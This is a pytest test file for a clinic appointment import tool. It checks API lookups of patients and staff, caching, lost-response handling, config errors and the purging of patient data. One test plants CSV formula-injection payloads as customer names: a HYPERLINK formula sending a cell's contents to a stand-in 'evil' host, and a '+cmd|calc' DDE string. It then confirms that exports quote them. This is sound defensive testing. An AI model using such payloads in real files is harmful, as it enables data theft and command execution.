"""lookup = "api": the sample export names patients by phone and staff, treatments and rooms
by name; imported against the sandbox, every row resolves as samples/api-lookups.expected.jsonl
says, a second run asks the API nothing it has cached, and a lost answer while creating a
customer leaves exactly one customer."""

from __future__ import annotations

import csv
import json
import os
import sqlite3
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from samples.api_lookups import write_seed
from tests.support.sandbox_process import Sandbox, start_sandbox, stop
from tests.support.sync import TOKEN_ENV, import_file, run_cli

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "samples" / "api-lookups.csv"
EXPECTED = ROOT / "samples" / "api-lookups.expected.jsonl"
NEW_PHONE = "+905551112233"


@pytest.fixture
def sb(tmp_path: Path) -> Iterator[Sandbox]:
    seed = write_seed(tmp_path / "seed.json")
    proc, sandbox = start_sandbox(tmp_path, "--seed-data", str(seed))
    try:
        yield sandbox
    finally:
        stop(proc)


def setup(tmp_path: Path, extra: str = "") -> Path:
    text = (ROOT / "config" / "api-lookups.toml").read_text(encoding="utf-8")
    text = text.replace('rate_limit = "20/second"', 'rate_limit = "1000/second"\ntimeout = 5')
    cfg = tmp_path / "api-lookups.toml"
    cfg.write_text(text + extra + '\n[ledger]\npath = "ledger.sqlite"\n', encoding="utf-8")
    return cfg


def expected() -> list[dict[str, Any]]:
    return [json.loads(x) for x in EXPECTED.read_text(encoding="utf-8").splitlines()]


def requests_since(sb: Sandbox, since: float) -> list[dict[str, Any]]:
    log: list[dict[str, Any]] = sb.get(f"/_sandbox/requests?since={since}")["requests"]
    return log


def reference_calls(log: list[dict[str, Any]]) -> list[tuple[str, str, str]]:
    return [
        (r["method"], r["path"].removeprefix("/api/v1/"), r["query"])
        for r in log
        if r["path"].split("/")[-1] in ("customers", "users", "treatments", "rooms")
    ]


def customers_with_phone(sb: Sandbox, phone: str) -> list[dict[str, Any]]:
    tenant = next(t for t in sb.get("/_sandbox/seed")["tenants"] if t["id"] == 1)
    return [c for c in tenant["customers"] if c.get("phone_number") == phone]


def ledger_rows(cfg: Path) -> dict[str, dict[str, Any]]:
    with sqlite3.connect(cfg.parent / "ledger.sqlite") as db:
        db.row_factory = sqlite3.Row
        return {r["source_key"]: dict(r) for r in db.execute("SELECT * FROM entries")}


def test_the_sample_resolves_every_row_as_expected_and_a_second_run_asks_nothing_cached(
    tmp_path: Path, sb: Sandbox
) -> None:
    cfg = setup(tmp_path)
    want = expected()
    start = time.time() - 1
    result, event = import_file(cfg, sb, SAMPLE)
    assert result.exit_code == 1, result.output  # five rows are row errors, on purpose
    totals = event["totals"]
    ok = [w for w in want if "error" not in w]
    assert (totals["created"], totals["invalid"], totals["failed"]) == (len(ok), 5, 0)

    created = customers_with_phone(sb, NEW_PHONE)
    assert len(created) == 1, created  # two rows name the new patient: one customer
    assert (created[0]["first_name"], created[0]["last_name"]) == ("Ayşe", "Yılmaz")
    assert created[0]["email"] == "ayse.yilmaz@example.com"
    assert sb.stats()["customers_created"] == 1

    stored = {a["scheduled_at"]: a for a in sb.appointments()}
    assert len(stored) == len(ok)
    for w in ok:
        appt = stored[w["scheduled_at"]]
        customer = w.get("customer_id", created[0]["id"])
        got = (appt["customer_id"], appt["user_id"], appt["assistant_id"], appt["room_id"])
        assert got == (customer, w["user_id"], w["assistant_id"], w["room_id"]), w["key"]
        assert appt["treatment_ids"] == w["treatments"], w["key"]

    rows = ledger_rows(cfg)
    for w in want:
        row = rows[w["key"]]
        if "error" in w:
            assert row["status"] == "invalid" and row["error_field"] == w["error_field"], row
            assert w["error"] in row["error_message"], row["error_message"]
        else:
            assert row["status"] == "created", row

    # Run 1 listed each small list once and searched each distinct phone once.
    calls = reference_calls(requests_since(sb, start))
    lists = sorted(p for m, p, q in calls if m == "GET" and p != "customers")
    assert lists == ["rooms", "treatments", "users"]
    searches = [q for m, p, q in calls if m == "GET" and p == "customers"]
    assert len(searches) == len(set(searches)) == 8  # 9 distinct phones, one not a number
    assert [m for m, p, _ in calls if m == "POST"] == ["POST"]

    # Run 2, same file: nothing cached is asked again. Only what was not resolved is:
    # the ambiguous phone, the patient not created (its row has an unknown doctor), and
    # the lists holding an unknown name (users, treatments).
    second = time.time()
    _, event2 = import_file(cfg, sb, SAMPLE)
    assert event2["totals"]["unchanged"] == len(ok) and event2["totals"]["invalid"] == 5
    calls2 = reference_calls(requests_since(sb, second))
    assert sorted(p for m, p, _ in calls2 if p != "customers") == ["treatments", "users"]
    assert sorted(q for _, p, q in calls2 if p == "customers") == [
        "search=5554445566&per_page=100&page=1",
        "search=5559998877&per_page=100&page=1",
    ]
    assert customers_with_phone(sb, "+905559998877") == []
    assert customers_with_phone(sb, NEW_PHONE) == created


def test_validate_online_and_dry_run_resolve_every_row_and_create_nothing(
    tmp_path: Path, sb: Sandbox
) -> None:
    cfg = setup(tmp_path)
    offline = run_cli("validate", str(SAMPLE), "-c", str(cfg))
    assert 'lookup = "api" are not checked without --online' in offline.output
    # Offline, only what needs no API is checked: the phone that is no number.
    assert offline.exit_code == 1 and "11 rows, 10 valid, 1 invalid" in offline.output
    report = tmp_path / "report.json"
    out = run_cli(
        "validate", str(SAMPLE), "-c", str(cfg), "--online", "--base-url", sb.base_url,
        "--report", str(report),
    )  # fmt: skip
    assert out.exit_code == 1, out.output
    text = out.output
    errors = {
        (e["line"], e["field"]): e for e in json.loads(report.read_text(encoding="utf-8"))["errors"]
    }
    for w in expected():
        if "error" in w:
            assert f":{w['line']}: {w['error_field']}" in text and w["error"] in text, w
            got = errors[(w["line"], w["error_field"])]  # the value: in the report, not on screen
            assert (got["field"], got["value"]) == (w["error_field"], w["value"]), got
    assert "5554445566" not in text and "Nobody" not in text
    assert "the import would create it (create_missing)" in text
    assert "customers the import would create: 1" in text
    # As a process: standard output holds the counts first, no log event ("references
    # resolved" went there, before the counts a script reads).
    done = subprocess.run(
        [sys.executable, "-m", "worker", "validate", str(SAMPLE), "-c", str(cfg), "--online",
         "--base-url", sb.base_url],
        capture_output=True, text=True, timeout=120, env={**os.environ, **TOKEN_ENV},
    )  # fmt: skip
    assert done.stdout.startswith(f"{SAMPLE}: 11 rows"), done.stdout
    assert "references resolved" in done.stderr and "references resolved" not in done.stdout
    # The 2 rows of the new patient are sent by the real run once it is created: counted
    # to send, not invalid (the prediction opened an item per row the real run sent).
    _, event = import_file(cfg, sb, SAMPLE, "--dry-run")
    assert (event["totals"]["invalid"], event["totals"]["to_send"]) == (5, 6), event["totals"]
    dry = run_cli("import", str(SAMPLE), "-c", str(cfg), "--base-url", sb.base_url, "--dry-run")
    assert "customers the import would create: 1 (create_missing), then send their 2 row(s)" in (
        dry.output
    )
    assert customers_with_phone(sb, NEW_PHONE) == []
    assert sb.stats()["customers_created"] == 0 and sb.stats()["appointments_total"] == 0
    _, real = import_file(cfg, sb, SAMPLE)
    assert real["worklist"]["open"] == event["worklist"]["open"], (real, event)


def test_a_lost_answer_while_creating_a_customer_leaves_exactly_one(
    tmp_path: Path, sb: Sandbox
) -> None:
    cfg = setup(tmp_path)
    body = json.dumps({"customer_faults": {"drop_after_commit": 1.0}}).encode()
    req = urllib.request.Request(
        sb.root + "/_sandbox/faults", body, {"Content-Type": "application/json"}
    )
    with urllib.request.urlopen(req) as resp:
        assert resp.status == 200
    _, event = import_file(cfg, sb, SAMPLE)
    assert sb.stats()["faults"].get("drop_after_commit") == 1
    created = customers_with_phone(sb, NEW_PHONE)
    assert len(created) == 1
    # The lookup after the lost answer found it: both of its rows were sent with its id.
    ids = {a["customer_id"] for a in sb.appointments()}
    assert created[0]["id"] in ids
    assert event["totals"]["created"] == 6
    with sqlite3.connect(cfg.parent / "ledger.sqlite") as db:
        made = db.execute("SELECT state, customer_id, attempts FROM ref_creations").fetchall()
    assert made == [("created", created[0]["id"], 1)]
    # A second run creates nothing more.
    import_file(cfg, sb, SAMPLE)
    assert customers_with_phone(sb, NEW_PHONE) == created
    assert sb.stats()["customers_created"] == 1


def test_lookups_pull_writes_each_tenants_lists_as_lookup_tables(
    tmp_path: Path, sb: Sandbox
) -> None:
    cfg = setup(tmp_path)
    out = tmp_path / "pulled"
    result = run_cli(
        "lookups", "pull", "-c", str(cfg), "--out", str(out), "--base-url", sb.base_url
    )
    assert result.exit_code == 0, result.output
    assert "tenant 1: 32 customers, 8 users, 10 treatments, 4 rooms" in result.output
    folder = out / "tenant-1"
    assert (folder / "customers.csv").stat().st_mode & 0o077 == 0  # patient data: owner only
    with (folder / "customers.csv").open(encoding="utf-8") as fh:
        customers = list(csv.DictReader(fh))
    assert customers[0] == {
        "id": "1001",
        "first_name": "Emine",
        "last_name": "Celik",
        "phone": "+905537801526",
        "email": "emine.celik7@example.com",
        "identity_number": "97682249676",
        "worker_patient_data": "yes: keep private, delete once fixed",
        "worker_quoted": "",
    }
    with (folder / "users.csv").open(encoding="utf-8") as fh:
        users = {r["name"]: r for r in csv.DictReader(fh)}
    assert users["Selin Kara"]["role"] == "assistant" and users["Dr. Esra Aslan"]["id"] == "101"
    # A pulled table works as a [lookups.X] table: key = "name", value = "id".
    lookup_cfg = cfg.read_text(encoding="utf-8").replace(
        '[mapping.room_id]\ncolumn = "Oda"\nlookup = "api"',
        '[mapping.room_id]\ncolumn = "Oda"\nlookup = "rooms"\n\n[lookups.rooms]\n'
        f'file = "{folder / "rooms.csv"}"\nkey = "name"\nvalue = "id"',
    )
    cfg.write_text(lookup_cfg, encoding="utf-8")
    checked = run_cli(
        "validate", str(SAMPLE), "-c", str(cfg), "--online", "--base-url", sb.base_url
    )
    assert "room_id" not in checked.output.split("errors:")[-1], checked.output
    refused = run_cli("lookups", "pull", "-c", str(cfg), "--out", str(out), "--tenant", "7")
    assert refused.exit_code == 2 and "--tenant 7: not a tenant" in refused.output


def test_a_cached_id_the_api_refuses_is_forgotten_and_looked_up_again(
    tmp_path: Path, sb: Sandbox
) -> None:
    cfg = setup(tmp_path)
    sample = tmp_path / "one.csv"
    lines = SAMPLE.read_text(encoding="utf-8").splitlines()
    sample.write_text("\n".join(lines[:2]) + "\n", encoding="utf-8")
    _, first = import_file(cfg, sb, sample)
    assert first["totals"]["created"] == 1
    # Staff merged the patient into another record: the cached id no longer exists.
    sb.change("DELETE", f"/_sandbox/appointments/{sb.appointments()[0]['id']}")
    with sqlite3.connect(tmp_path / "ledger.sqlite") as db:
        db.execute("UPDATE refs SET ref_ids = '999999' WHERE kind = 'customers'")
        db.execute("DELETE FROM entries")
    result, second = import_file(cfg, sb, sample)
    assert second["totals"]["failed"] == 1, result.output
    with sqlite3.connect(tmp_path / "ledger.sqlite") as db:
        assert db.execute("SELECT count(*) FROM refs WHERE kind = 'customers'").fetchone() == (0,)
    third_start = time.time()
    _, third = import_file(cfg, sb, sample)
    assert third["totals"]["created"] == 1
    searches = [
        q for _, p, q in reference_calls(requests_since(sb, third_start)) if p == "customers"
    ]
    assert searches == ["search=5537801526&per_page=100&page=1"]
    assert sb.appointments()[-1]["customer_id"] == 1001


def test_reference_max_age_zero_looks_everything_up_every_run(tmp_path: Path, sb: Sandbox) -> None:
    cfg = setup(tmp_path)
    text = cfg.read_text(encoding="utf-8").replace(
        "reference_max_age = 86400", "reference_max_age = 0"
    )
    cfg.write_text(text, encoding="utf-8")
    import_file(cfg, sb, SAMPLE)
    again = time.time()
    import_file(cfg, sb, SAMPLE)
    calls = reference_calls(requests_since(sb, again))
    assert sorted(p for _, p, _ in calls if p != "customers") == ["rooms", "treatments", "users"]
    assert len([p for _, p, _ in calls if p == "customers"]) == 8


@pytest.mark.parametrize(
    ("field", "spec", "message"),
    [
        ("customer_id", '{ column = "Telefon", lookup = "api", by = "name" }',
         "mapping.customer_id.by: customer_id is found by 'phone' or 'email' or 'identity_number'"),
        ("user_id", '{ column = "Doktor", lookup = "api", create_missing = true }',
         "mapping.user_id.create_missing: only customers can be created"),
        ("customer_id", '{ column = "Telefon", lookup = "api", create_missing = true }',
         "mapping.customer_id.create: create_missing needs create = {"),
        ("customer_id", '{ column = "Telefon", lookup = "api", create_missing = true, '
         'create = { first_name = "Ad" } }', "mapping.customer_id.create.last_name: missing"),
        ("user_id", '{ column = "Doktor", by = "name" }',
         'mapping.user_id.by: goes with lookup = "api"'),
        ("description", '{ column = "Doktor", lookup = "api" }',
         "mapping.description.lookup: description takes no lookup: it goes with a lookup of ids"),
    ],
)  # fmt: skip
def test_config_errors_of_api_lookups_name_their_key(
    tmp_path: Path, field: str, spec: str, message: str
) -> None:
    cfg = setup(tmp_path)
    text = cfg.read_text(encoding="utf-8")
    start = text.index(f"[mapping.{field}]") if f"[mapping.{field}]" in text else None
    if start is not None:
        end = text.index("\n\n", start)
        text = text[:start] + text[end:]
    text = text.replace("[mapping]\n", f"[mapping]\n{field} = {spec}\n", 1)
    cfg.write_text(text, encoding="utf-8")
    out = run_cli("validate", str(SAMPLE), "-c", str(cfg))
    assert out.exit_code == 2, out.output
    assert message in out.output, out.output


def test_a_bad_phone_region_and_standard_input_are_clear_errors(tmp_path: Path) -> None:
    cfg = setup(tmp_path)
    text = cfg.read_text(encoding="utf-8")
    cfg.write_text(text.replace('phone_region = "TR"', 'phone_region = "XX"'), encoding="utf-8")
    out = run_cli("validate", str(SAMPLE), "-c", str(cfg))
    assert out.exit_code == 2 and "api.phone_region: unknown phone region 'XX'" in out.output
    cfg.write_text(text, encoding="utf-8")
    for extra in (["--dry-run"], []):
        out = run_cli("import", "-", "-c", str(cfg), *extra)
        assert out.exit_code == 2 and "give a file, not standard input" in out.output, out.output
    assert not (tmp_path / "ledger.sqlite").exists()


def set_customer_faults(sb: Sandbox, table: dict[str, float]) -> None:
    body = json.dumps({"customer_faults": table}).encode()
    req = urllib.request.Request(
        sb.root + "/_sandbox/faults", body, {"Content-Type": "application/json"}
    )
    with urllib.request.urlopen(req) as resp:
        assert resp.status == 200


def creations(cfg: Path) -> list[tuple[Any, ...]]:
    with sqlite3.connect(cfg.parent / "ledger.sqlite") as db:
        return db.execute(
            "SELECT state, customer_id, attempts, error FROM ref_creations"
        ).fetchall()


SETTLE = 30.0


def age_creations(cfg: Path, seconds: float) -> None:
    """Time passing for the ledger's customer creations: their send time moves back."""
    with sqlite3.connect(cfg.parent / "ledger.sqlite") as db:
        db.execute("UPDATE ref_creations SET sent_at = sent_at - ?", (seconds,))


def test_a_lost_answer_not_found_by_the_lookup_is_never_resent_before_settle_seconds(
    tmp_path: Path, sb: Sandbox
) -> None:
    # reset_before: the connection drops before anything is made, which the worker cannot
    # tell from a lost answer. The lookup finds nothing: the customer stays unknown.
    cfg = setup(tmp_path)
    text = cfg.read_text(encoding="utf-8").replace(
        "reference_max_age = 86400", f"reference_max_age = 86400\nsettle_seconds = {SETTLE:g}"
    )
    cfg.write_text(text.replace("[tenants.1]", "absent_horizon = 60\n\n[tenants.1]"), "utf-8")
    sample = tmp_path / "new.csv"
    lines = SAMPLE.read_text(encoding="utf-8").splitlines()
    sample.write_text("\n".join([lines[0], lines[5], lines[6]]) + "\n", encoding="utf-8")
    set_customer_faults(sb, {"reset_before": 1.0})
    result, event = import_file(cfg, sb, sample)
    assert event["totals"]["invalid"] == 2, result.output
    [(state, customer_id, attempts, _)] = creations(cfg)
    assert (state, customer_id, attempts) == ("unknown", None, 1)
    rows = ledger_rows(cfg)
    assert "it is not sent again: the next run looks again" in rows["R-1005"]["error_message"]
    # Right away, a second run looks again and does not send: settle_seconds have not passed.
    set_customer_faults(sb, {})
    posts = len([r for r in requests_since(sb, 0) if r["method"] == "POST"])
    _, event2 = import_file(cfg, sb, sample)
    assert creations(cfg)[0][0] == "unknown"
    assert len([r for r in requests_since(sb, 0) if r["method"] == "POST"]) == posts
    # Once they have (moved back in the ledger, not waited for; the rule on a fake clock:
    # tests/test_refs_read_time.py), the next run sends it again.
    age_creations(cfg, SETTLE + 1)
    _, event2 = import_file(cfg, sb, sample)
    assert event2["totals"]["created"] == 2
    [(state, customer_id, attempts, _)] = creations(cfg)
    assert state == "created" and attempts == 2
    assert [c["id"] for c in customers_with_phone(sb, NEW_PHONE)] == [customer_id]


def test_a_refused_creation_is_a_row_error_with_the_apis_words(tmp_path: Path, sb: Sandbox) -> None:
    cfg = setup(tmp_path)
    sample = tmp_path / "bad.csv"
    lines = SAMPLE.read_text(encoding="utf-8").splitlines()
    sample.write_text(
        lines[0] + "\n" + lines[5].replace("ayse.yilmaz@example.com", "not-an-email") + "\n",
        encoding="utf-8",
    )
    _, event = import_file(cfg, sb, sample)
    assert event["totals"]["invalid"] == 1
    message = ledger_rows(cfg)["R-1005"]["error_message"]
    assert "was refused: HTTP 422: email: The email field must be a valid email address." in message
    assert creations(cfg)[0][0] == "failed" and sb.stats()["customers_created"] == 0


def test_customers_by_email_and_identity_number_and_users_by_email(
    tmp_path: Path, sb: Sandbox
) -> None:
    cfg = setup(tmp_path)
    text = cfg.read_text(encoding="utf-8")
    text = text.replace(
        'column = "Telefon"\nlookup = "api"\nby = "phone"',
        'column = "E-posta"\nlookup = "api"\nby = "email"',
    )
    text = text.replace(
        'column = "Doktor"\nlookup = "api"\nby = "name"',
        'column = "Doktor"\nlookup = "api"\nby = "email"',
    )
    cfg.write_text(text, encoding="utf-8")
    sample = tmp_path / "by-email.csv"
    sample.write_text(
        "Randevu;Tarih;Saat;Ad;Soyad;Telefon;E-posta;Doktor;Asistan;Islemler;Oda;Durum\n"
        "E-1;10.03.2026;09:30;X;Y;;Emine.Celik7@EXAMPLE.com;ESRA.ASLAN@kadikoy.clinic.example;"
        ";Botox;;Bekliyor\n",
        encoding="utf-8",
    )
    _, event = import_file(cfg, sb, sample)
    assert event["totals"]["created"] == 1
    appt = sb.appointments()[0]
    assert (appt["customer_id"], appt["user_id"]) == (1001, 101)
    text = cfg.read_text(encoding="utf-8").replace(
        'column = "E-posta"\nlookup = "api"\nby = "email"',
        'column = "Telefon"\nlookup = "api"\nby = "identity_number"',
    )
    cfg.write_text(text, encoding="utf-8")
    sample.write_text(
        "Randevu;Tarih;Saat;Ad;Soyad;Telefon;E-posta;Doktor;Asistan;Islemler;Oda;Durum\n"
        "E-2;10.03.2026;10:30;X;Y;625 164 030 47;;merve.arslan@kadikoy.clinic.example;"
        ";Botox;;Bekliyor\n",
        encoding="utf-8",
    )
    _, event = import_file(cfg, sb, sample)
    assert event["totals"]["created"] == 1
    appt = sb.appointments()[-1]
    assert (appt["customer_id"], appt["user_id"]) == (1002, 102)


def test_a_bad_birth_date_or_gender_is_a_row_error_that_does_not_quote_it(
    tmp_path: Path, sb: Sandbox
) -> None:
    cfg = setup(tmp_path)
    cfg.write_text(
        cfg.read_text(encoding="utf-8").replace(
            'create = { first_name = "Ad", last_name = "Soyad", email = "E-posta" }',
            'create = { first_name = "Ad", last_name = "Soyad", email = "E-posta", '
            'birth_date = "Dogum", gender = "Cinsiyet" }',
        ),
        encoding="utf-8",
    )
    header, *lines = SAMPLE.read_text(encoding="utf-8").splitlines()
    phone = lines[0].split(";")[5]
    new = lines[0].replace(phone, "0555 111 22 33")
    sample = tmp_path / "born.csv"
    sample.write_text(
        f"{header};Dogum;Cinsiyet\n"
        f"{new.replace('R-1001', 'R-1')};31.02.1980;K\n"
        f"{new.replace('R-1001', 'R-2').replace('0555 111 22 33', '0555 111 22 44')};"
        "1980-02-01;Zorro\n",
        encoding="utf-8",
    )
    _, event = import_file(cfg, sb, sample)
    assert event["totals"]["invalid"] == 2
    rows = ledger_rows(cfg)
    assert (
        "the birth date is not a date (expected YYYY-MM-DD or DD.MM.YYYY)"
        in (rows["R-1"]["error_message"])
    )
    assert "the gender is not one of female, male, other" in rows["R-2"]["error_message"]
    assert "31.02" not in rows["R-1"]["error_message"]
    assert "Zorro" not in rows["R-2"]["error_message"]
    assert sb.stats()["customers_created"] == 0


def test_pulled_customers_keep_formulas_quoted_say_they_are_patient_data_and_read_back(
    tmp_path: Path, sb: Sandbox
) -> None:
    cfg = setup(tmp_path)
    formula, command, number = '=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|calc", "@SUM(1+1)"
    body = json.dumps({"first_name": formula, "last_name": command, "identity_number": number})
    headers = {"Content-Type": "application/json", "Authorization": "Bearer sandbox-token-all",
               "X-Tenant": "1", "Accept": "application/json"}  # fmt: skip
    with urllib.request.urlopen(
        urllib.request.Request(sb.base_url + "/v1/customers", body.encode(), headers)
    ) as resp:
        made = json.loads(resp.read())["data"]
    out = tmp_path / "pulled"
    pulled = run_cli(
        "lookups", "pull", "-c", str(cfg), "--out", str(out), "--base-url", sb.base_url
    )
    assert pulled.exit_code == 0, pulled.output
    customers = out / "tenant-1" / "customers.csv"
    with customers.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    [row] = [r for r in rows if r["id"] == str(made["id"])]
    assert (row["first_name"], row["last_name"]) == ("'" + formula, "'" + command)
    assert row["identity_number"] == "'" + number
    assert json.loads(row["worker_quoted"]) == ["first_name", "last_name", "identity_number"]
    assert {r["worker_patient_data"] for r in rows} == {"yes: keep private, delete once fixed"}
    # Read back as a [lookups.X] table, a quoted cell is the API's again: it finds its id.
    text = cfg.read_text(encoding="utf-8").replace(
        '[mapping.room_id]\ncolumn = "Oda"\nlookup = "api"',
        '[mapping.room_id]\ncolumn = "Oda"\nlookup = "people"\n\n[lookups.people]\n'
        f'file = "{customers}"\nkey = "identity_number"\nvalue = "id"',
    )
    cfg.write_text(text, encoding="utf-8")
    with SAMPLE.open(encoding="utf-8", newline="") as fh:
        head, first, *_ = list(csv.reader(fh, delimiter=";"))
    first[head.index("Oda")] = number
    export = tmp_path / "one.csv"
    with export.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, delimiter=";").writerows([head, first])
    payloads = tmp_path / "payloads.jsonl"
    checked = run_cli("validate", str(export), "-c", str(cfg), "--online", "--base-url",
                      sb.base_url, "--payloads", str(payloads))  # fmt: skip
    assert checked.exit_code == 0, checked.output
    [line] = payloads.read_text(encoding="utf-8").splitlines()
    assert json.loads(line)["body"]["room_id"] == made["id"]


def test_purge_drops_the_patient_lookups_whose_key_is_a_phone_and_creates_no_one_twice(
    tmp_path: Path, sb: Sandbox
) -> None:
    # "patient data dropped" left every looked-up phone number in the ledger, next to
    # its customer id: refs and ref_creations are keyed by it (in clear, without a key).
    cfg = setup(tmp_path)
    assert import_file(cfg, sb, SAMPLE)[0].exit_code == 1
    purged = run_cli("ledger", "purge", "-c", str(cfg), "--older-than", "0d")
    assert purged.exit_code == 0, purged.output
    with sqlite3.connect(cfg.parent / "ledger.sqlite") as db:
        keys = db.execute("SELECT key FROM refs WHERE kind = 'customers'").fetchall()
        keys += db.execute("SELECT key FROM ref_creations").fetchall()
        assert keys == []
        labels = db.execute("SELECT count(*) FROM refs WHERE label IS NOT NULL").fetchone()[0]
        assert labels == 0
    # Asked again, the patients are found, the one created before among them.
    again, _ = import_file(cfg, sb, SAMPLE)
    assert again.exit_code == 1, again.output
    assert sb.stats()["customers_created"] == 1
    assert len(customers_with_phone(sb, NEW_PHONE)) == 1


def test_a_new_patients_row_with_another_error_is_listed_under_that_errors_field(
    tmp_path: Path, sb: Sandbox
) -> None:
    """A row naming a new patient (create_missing) and a date that is no date: the
    patient is not created (the row has other errors), and the worklist's field was
    customer_id, pointing a person at the patient instead of the date to fix."""
    cfg = setup(tmp_path)
    export = tmp_path / "new.csv"
    export.write_text(
        "Randevu;Tarih;Saat;Ad;Soyad;Telefon;E-posta;Doktor;Asistan;Islemler;Oda;Durum\n"
        "R-9001;31.02.2026;09:30;Yeni;Hasta;0555 999 88 77;;Dr. Esra Aslan;;Botox;;Onaylandı\n",
        encoding="utf-8",
    )
    result, _ = import_file(cfg, sb, export)
    assert result.exit_code == 1, result.output
    listed = run_cli("worklist", "-c", str(cfg), "--format", "json")
    [item] = json.loads(listed.stdout)
    assert (item["source_key"], item["field"]) == ("R-9001", "scheduled_at"), item
    assert "not created, because every row naming it has other errors" in item["reason"]
